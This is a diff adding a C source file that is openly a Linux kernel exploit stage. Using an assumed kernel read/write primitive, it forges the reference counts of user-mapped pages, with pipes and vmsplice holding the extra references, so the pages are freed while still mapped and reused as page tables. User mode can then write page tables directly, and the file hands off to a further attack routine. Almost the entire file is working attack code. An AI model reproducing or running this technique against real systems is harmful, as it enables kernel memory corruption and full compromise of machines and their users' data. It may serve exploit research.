@@ -1,0 +1,146 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Forge the reference counts of pages that the attacker maps, so that they are
+ * freed while they are mapped, and become page tables. User mode writes to
+ * those without asking any key of the kernel.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <sched.h>
+#include <sys/mman.h>
+#include <sys/sysinfo.h>
+#include <sys/uio.h>
+#include <unistd.h>
+
+#include "tables.h"
+
+/* More than a CPU keeps of what is freed: an eighth of 256 MB. */
+#define WINDOW_SIZE	(48UL << 20)
+#define PAGES_MOST	(WINDOW_SIZE / 4096)
+#define PIPE_SIZE	(1UL << 20)
+#define PIPES		(WINDOW_SIZE / PIPE_SIZE)
+
+/* Memory to leave free, so that others find some. */
+#define LEFT_FREE	(16UL << 20)
+
+static char *mapped;
+static u64 counts[PAGES_MOST];	/* where the kernel counts, by page */
+
+static u64 mapped_read(size_t page, unsigned int slot)
+{
+	return *(volatile u64 *)(mapped + page * page_size() + slot * sizeof(u64));
+}
+
+static void mapped_write(size_t page, unsigned int slot, u64 value)
+{
+	*(volatile u64 *)(mapped + page * page_size() + slot * sizeof(u64)) = value;
+}
+
+static void *populated(size_t length)
+{
+	void *p = map_pages(NULL, length);
+
+	if (madvise(p, length, MADV_POPULATE_WRITE))
+		die_errno("populating memory");
+	return p;
+}
+
+/* Nearly all free memory, so that what is freed then is used next. */
+static struct iovec take_free_memory(void)
+{
+	struct iovec taken = { 0 };
+	struct sysinfo info;
+
+	if (sysinfo(&info))
+		die_errno("sysinfo");
+	taken.iov_len = info.freeram * info.mem_unit;
+	if (taken.iov_len <= LEFT_FREE)
+		die("there is too little memory");
+	taken.iov_len -= LEFT_FREE;
+	taken.iov_base = populated(taken.iov_len);
+	return taken;
+}
+
+/* A second reference to the page, which can be dropped. */
+static int lend(char *start)
+{
+	struct iovec iov = { .iov_base = start, .iov_len = PIPE_SIZE };
+	int fds[2];
+
+	if (pipe(fds) || fcntl(fds[0], F_SETPIPE_SZ, PIPE_SIZE) < 0)
+		die_errno("making a pipe");
+	if (vmsplice(fds[1], &iov, 1, 0) != (ssize_t)PIPE_SIZE)
+		die_errno("lending pages to a pipe");
+	close(fds[1]);
+	return fds[0];
+}
+
+/*
+ * Of the two references to each page let only one be known. To ask for the
+ * address is an access, for which the kernel holds a reference for a while.
+ */
+static void forge_counts(void)
+{
+	size_t page, pages = WINDOW_SIZE / page_size();
+
+	for (page = 0; page < pages; page++)
+		counts[page] = vuln_mm(mapped + page * page_size()).counts;
+	for (page = 0; page < pages; page++) {
+		u64 value = vuln_read(counts[page]);
+
+		if (value >> 32 == 2)
+			vuln_write(counts[page],
+				   (value & 0xffffffff) | 1ULL << 32);
+		else
+			counts[page] = 0;
+	}
+}
+
+static noreturn int sleep_for_ever(void *unused)
+{
+	(void)unused;
+	for (;;)
+		pause();
+}
+
+/*
+ * The mappings must never go away: each would give up a reference to a page
+ * that has other owners by then.
+ */
+static void keep_address_space(void)
+{
+	static char stack[16384] __attribute__((aligned(16)));
+
+	if (clone(sleep_for_ever, stack + sizeof(stack), CLONE_VM, NULL) < 0)
+		die_errno("clone");
+}
+
+int main(int argc, char **argv)
+{
+	struct window window = {
+		.pages = WINDOW_SIZE / page_size(),
+		.read = mapped_read,
+		.write = mapped_write,
+	};
+	struct iovec taken;
+	int pipes[PIPES];
+	bool won;
+	size_t i;
+
+	mapped = populated(WINDOW_SIZE);
+	taken = take_free_memory();
+
+	/* Before there are pipes, which it would keep open. */
+	keep_address_space();
+	for (i = 0; i < PIPES; i++)
+		pipes[i] = lend(mapped + i * PIPE_SIZE);
+	forge_counts();
+	for (i = 0; i < PIPES; i++)
+		close(pipes[i]);
+
+	won = attack_by_window(&window, argc > 1 ? argv[1] : NULL);
+	munmap(taken.iov_base, taken.iov_len);
+	if (!won)
+		out_of_reach("the memory did not become a page table");
+	return 0;
+}
